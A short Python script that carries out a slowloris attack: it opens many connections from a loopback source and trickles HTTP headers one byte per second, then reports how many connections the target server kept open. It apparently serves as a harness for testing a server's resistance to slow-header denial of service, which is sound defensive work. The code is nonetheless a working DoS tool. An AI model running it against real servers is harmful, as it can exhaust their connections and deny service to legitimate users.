#!/usr/bin/env python3
"""slowloris.py HOST PORT SOURCE N SECONDS: N connections from SOURCE (a loopback
address) that send a request's headers one byte a second, for SECONDS.
Prints "opened O held H": connections opened, and the most that the server
kept open at once (a server that closes them, or refuses them, holds few)."""
import socket, sys, time

host, port, source, n, secs = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
conns, opened = [], 0
for i in range(n):
    s = socket.socket()
    s.setblocking(False)
    s.bind((source, 0))
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    except OSError:
        s.close(); continue
    conns.append(s); opened += 1
held, end, header = 0, time.time() + secs, b"GET /v1/families HTTP/1.1\r\nHost: x\r\nX-a: " + b"b" * 10000
step = 0
while time.time() < end:
    alive = []
    for s in conns:
        try:
            s.send(header[step:step + 1])
            try:
                if s.recv(1, socket.MSG_PEEK) == b"":
                    s.close(); continue        # the server closed it
            except BlockingIOError:
                pass
            alive.append(s)
        except (BlockingIOError, InterruptedError):
            alive.append(s)
        except OSError:
            s.close()
    conns = alive
    # a connection counts as held once the server had a second to refuse it
    if step >= 1:
        held = max(held, len(conns))
    step += 1
    time.sleep(1)
print("opened %d held %d" % (opened, held))
